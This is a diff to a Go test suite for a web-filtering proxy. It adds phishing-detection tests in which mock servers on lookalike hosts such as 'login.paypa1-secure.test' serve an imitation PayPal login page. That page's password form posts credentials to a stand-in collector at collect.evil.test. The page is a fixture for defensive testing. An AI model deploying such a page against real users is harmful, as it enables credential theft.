@@ -38,7 +38,8 @@ type sites struct {
 
 func startSites(t *testing.T) *sites {
 	s := &sites{hits: map[string]*atomic.Int64{}, query: make(chan string, 10)}
-	for _, h := range []string{"news.test", "adult-page.test", "casino.test", "big.test", "adult-example.test", "www.google.com"} {
+	for _, h := range []string{"news.test", "adult-page.test", "casino.test", "big.test", "adult-example.test", "www.google.com",
+		"login.paypa1-secure.test", "account-check.test", "paypa1.test"} {
 		s.hits[h] = &atomic.Int64{}
 	}
 	var big bytes.Buffer
@@ -65,6 +66,9 @@ func startSites(t *testing.T) *sites {
 		case "big.test":
 			w.Header().Set("Content-Encoding", "gzip")
 			w.Write(s.big)
+		case "login.paypa1-secure.test", "account-check.test":
+			io.WriteString(w, `<html><title>PayPal: Log in</title><body><h1>Log in to your PayPal account</h1>
+<form method="post" action="https://collect.evil.test/p"><input name="email"><input type="password" name="pw"><button>Log in</button></form></body></html>`)
 		case "www.google.com":
 			s.query <- r.URL.RawQuery
 			io.WriteString(w, "<html><title>Results</title></html>")
@@ -84,7 +88,7 @@ type filterSetup struct {
 	tlsPort string
 }
 
-func startFilter(t *testing.T, dir string) *filterSetup {
+func startFilter(t *testing.T, dir string, more ...func(*config.Config)) *filterSetup {
 	t.Helper()
 	fs := &filterSetup{sites: startSites(t)}
 	_, fs.port, _ = net.SplitHostPort(fs.sites.srv.Listener.Addr().String())
@@ -117,6 +121,9 @@ func startFilter(t *testing.T, dir string) *filterSetup {
 		f.Rules = []config.ForwardRule{
 			{Name: "gambling-warns", Categories: config.Strings{"gambling"}, Action: "warn"},
 			{Name: "no-news-for-bob", Hosts: config.Strings{"news.test"}, Users: config.Strings{"bob"}, Action: "block"},
+		}
+		for _, f := range more {
+			f(c)
 		}
 	})
 	for _, u := range []string{"alice", "bob"} {
@@ -383,4 +390,36 @@ func grepLines(s, sub string) string {
 		}
 	}
 	return strings.Join(out, "\n")
+}
+
+// TestPhishingThroughProxy: the issue's test page (a lookalike host) is
+// blocked by its name; the same page on an innocent-looking name is
+// blocked by what it shows (the brand and a password form posting
+// elsewhere); a plain lookalike gets the warning; the brand's reasons
+// are in the events.
+func TestPhishingThroughProxy(t *testing.T) {
+	fs := startFilter(t, "", func(c *config.Config) {
+		c.Phishing.Protect = config.Strings{"paypal.com"}
+		c.Phishing.NewDomainDays = 0
+	})
+	alice := fs.client("alice")
+	code, body, _ := get(t, alice, fs.url("login.paypa1-secure.test", "/"))
+	if code != 403 || !strings.Contains(body, "phishing") || fs.sites.hits["login.paypa1-secure.test"].Load() != 0 {
+		t.Fatalf("lookalike host: %d %s", code, body)
+	}
+	code, body, _ = get(t, alice, fs.url("account-check.test", "/"))
+	if code != 403 || !strings.Contains(body, "phishing") {
+		t.Fatalf("brand and password form on another host: %d %s", code, body)
+	}
+	code, body, _ = get(t, alice, fs.url("paypa1.test", "/"))
+	if code != 403 || !strings.Contains(body, `id="continue"`) {
+		t.Fatalf("plain lookalike: %d %s", code, body)
+	}
+	if code, _, _ := get(t, alice, fs.url("news.test", "/")); code != 200 {
+		t.Fatalf("news: %d", code)
+	}
+	fs.waitEvent(t, "ev.proxy.browse",
+		`"host":"login.paypa1-secure.test"`, `looks like \"paypal\"`,
+		`"host":"account-check.test","port":`+fs.port+`,"path":"/","action":"block","rule":"phishing"`, `its form posts to collect.evil.test`,
+		`"host":"paypa1.test","port":`+fs.port+`,"path":"/","action":"warn","rule":"phishing"`)
 }
